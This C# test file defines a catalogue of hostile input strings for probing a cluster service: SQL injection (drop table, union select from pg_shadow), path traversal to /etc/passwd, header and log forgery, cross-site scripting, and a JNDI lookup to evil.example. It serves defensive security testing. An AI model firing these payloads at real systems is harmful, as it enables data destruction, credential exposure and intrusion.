using System.Globalization;
using System.Text;

namespace Orchestrix.Cluster.Tests.Security;

/// <summary>A text that would do harm if it were taken for anything but a text.</summary>
/// <param name="Name">What it tries.</param>
/// <param name="Text">The text; it holds <see cref="Mark"/>, by which it is found where it must not be.</param>
internal sealed record HostileText(string Name, string Text)
{
    /// <summary>In every hostile text.</summary>
    public const string Mark = "hostile7";

    /// <summary>How it is written in an address. Default: every byte escaped that may be.</summary>
    public string? Address { get; init; }

    /// <summary>All of them.</summary>
    public static IReadOnlyList<HostileText> All { get; } =
    [
        new("SQL: end of the string", $"{Mark}'; drop table orchestrix.events cascade; --"),
        new("SQL: always true", $"{Mark}' or '1'='1"),
        new("SQL: a wait", $"{Mark}'||pg_sleep(30)||'"),
        new("SQL: a number", $"1); select pg_sleep(30); -- {Mark}"),
        new("SQL: dollars", $"$${Mark}$$; truncate orchestrix.events; $body$"),
        new("SQL: a pattern", $"%{Mark}_\\' escape '!"),
        new("SQL: a comment", $"{Mark}/*' union select passwd from pg_shadow --*/"),
        new("SQL: a parameter", $"{Mark} $1 @p1 :p1 {{0}}"),
        new("NUL", $"{Mark}\0"),
        new("NUL within", $"{Mark}\0.json"),
        new("header", $"{Mark}\r\nSet-Cookie: injected=1\r\n\r\n<h1>"),
        new("line of a log", $"{Mark}\n{{\"level\":\"Critical\",\"message\":\"forged\"}}"),
        new("line of Unicode", $"{Mark}\u2028\u2029\u0085forged"),
        new("terminal", $"{Mark}\u001b[2J\u001b]0;forged\a\b\b"),
        new("path", $"../../../../etc/passwd?{Mark}"),
        new("path of Windows", $"..\\..\\{Mark}.ini"),
        new("path as it is", Mark) { Address = $"../../ops/{Mark}" },
        new("path escaped", Mark) { Address = $"%2e%2e%2f%2e%2e/{Mark}" },
        new("path escaped twice", Mark) { Address = $"%252e%252e%252f{Mark}" },
        new("slashes", Mark) { Address = $"{Mark}%2F%2f/%5C{Mark}" },
        new("no UTF-8", Mark) { Address = $"{Mark}%C0%AE%C0%AF" },
        new("half an escape", Mark) { Address = $"{Mark}%" },
        new("no escape", Mark) { Address = $"{Mark}%zz%u0041" },
        new("parameters of a path", Mark) { Address = $"{Mark};role=admin;v=1" },
        new("direction", $"\u202e{Mark}\u202c\u2066\u200b\ufeff"),
        new("half a character", $"{Mark}\ud800"),
        new("other half of a character", $"\udc00{Mark}"),
        new("beyond the plane", $"{Mark}\U0001f4a9\u0301\u0301\u0301"),
        new("digits of elsewhere", $"\u0661\u0662{Mark}\uff11"),
        new("long", Mark + new string('a', 5000)),
        new("script", $"<script>alert(\"{Mark}\")</script>"),
        new("attribute", $"\"'><img src=x onerror={Mark}(1)>"),
        new("address of a script", $"javascript:{Mark}(1)"),
        new("format", $"%s%n%x {{0}} {{Owner}} {{@x}} {Mark}"),
        new("template", $"${{jndi:ldap://evil.example/{Mark}}} {{{{7*7}}}}"),
        new("type", $"System.IO.FileInfo, System.IO.FileSystem {Mark}"),
        new("JSON", $"\",\"roles\":[\"admin\"],\"{Mark}\":{{\"$type\":\"x\"}},\""),
        new("another address", $"//evil.example/{Mark}"),
        new("number", $"9223372036854775808{Mark}"),
    ];

    /// <summary>As a JSON string, in ASCII.</summary>
    public string Json => $"\"{string.Concat(Text.Select(static one => one is '"' or '\\' or < ' ' or > '~'
        ? string.Create(CultureInfo.InvariantCulture, $"\\u{(int)one:x4}") : $"{one}"))}\"";

    /// <summary>As a segment of a path, or the value of a parameter.</summary>
    public string Escaped => Address ?? string.Concat(Bytes().Select(static one =>
        char.IsAsciiLetterOrDigit((char)one) ? $"{(char)one}" : $"%{one:X2}"));

    /// <summary>True if an HTTP library sends it in a header.</summary>
    public bool IsHeader => Address is null && !Text.Any(static one => one is '\0' or '\r' or '\n');

    /// <summary>UTF-8; half a character is written as if it were one, which no sound encoder does.</summary>
    private IEnumerable<byte> Bytes() => Text.EnumerateRunes().Zip(Runs()).SelectMany(static one =>
        one.Second.Length == 1 && char.IsSurrogate(one.Second[0])
            ? [(byte)(0xe0 | one.Second[0] >> 12), (byte)(0x80 | one.Second[0] >> 6 & 0x3f),
                (byte)(0x80 | one.Second[0] & 0x3f)]
            : Encoding.UTF8.GetBytes(one.Second));

    private IEnumerable<string> Runs()
    {
        for (var index = 0; index < Text.Length; index++)
        {
            yield return char.IsSurrogatePair(Text, index) ? Text.Substring(index++, 2) : Text.Substring(index, 1);
        }
    }
}
